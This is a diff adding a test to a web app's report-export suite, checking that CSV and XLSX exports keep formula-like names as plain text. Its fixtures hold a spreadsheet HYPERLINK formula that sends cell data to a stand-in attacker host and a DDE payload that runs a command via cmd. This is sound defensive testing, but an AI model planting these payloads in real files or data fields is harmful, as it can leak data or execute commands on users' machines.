@@ -246,3 +246,30 @@ def test_other_worklists_export_the_listing_rows(app, client, auth, db, world, k
     auth.logout()
     auth.login(world.users.commune.username)
     assert client.get(f"/reports/export/worklist/{kind}.csv?unit=31120").status_code == 404
+
+
+# --------------------------------------------------------------------------- formula injection
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+
+
+def test_exported_text_is_never_a_formula(client, auth, db, world):
+    """A team or a person named like a formula stays text: a quote before it in CSV, a string cell in XLSX."""
+    from openpyxl import load_workbook as load_full
+
+    from lms.org.models import Team
+
+    for team in db.session.scalars(db.select(Team)):
+        team.name = FORMULA
+    world.overdue.person.full_name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    db.session.commit()
+    auth.login(world.users.province.username)
+    wb = load_full(io.BytesIO(download(client, "/reports/export/worklist/d.xlsx?unit=92&date=2025-10-15")))
+    texts = [c for row in wb.worksheets[0].iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
+    assert texts and all(c.data_type == "s" for c in texts)  # the team names, kept as text
+    assert FORMULA in {c.value for c in texts}
+    rows = csv_rows(download(client, "/reports/export/worklist/e3.csv?unit=92&date=2025-10-15"))
+    cells = [v for r in rows[1:] for v in r]
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+    assert not any(v.startswith(("=", "+", "@")) for v in cells)
+    assert all(v[1:].replace(".", "", 1).isdigit() for v in cells if v.startswith("-"))  # only negative numbers
